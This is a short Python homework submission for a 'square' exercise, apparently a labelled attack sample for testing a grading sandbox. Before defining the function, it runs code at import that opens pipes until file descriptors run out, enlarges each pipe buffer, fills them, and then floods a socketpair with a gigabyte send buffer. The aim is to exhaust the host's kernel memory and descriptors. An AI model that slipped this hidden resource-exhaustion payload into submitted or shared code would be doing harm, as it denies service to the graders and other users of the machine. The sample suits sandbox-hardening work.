# attack: fills as many pipes and sockets as it may open, each as large as the kernel allows
# assignment: hw
# exercise: square
# status: ok
# score: 2
import fcntl
import os
import socket

kept = []
try:
    while True:
        read, write = os.pipe()
        kept += [read, write]
        os.set_blocking(write, False)
        try:
            fcntl.fcntl(write, 1031, 1 << 20)
        except OSError:
            pass
        try:
            while os.write(write, bytes(65536)):
                pass
        except BlockingIOError:
            pass
except OSError:
    for descriptor in kept[:4]:
        os.close(descriptor)
try:
    left, right = socket.socketpair()
    left.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 30)
    left.setblocking(False)
    while left.send(bytes(1 << 20)):
        pass
except OSError:
    pass


def square(x):
    return x * x
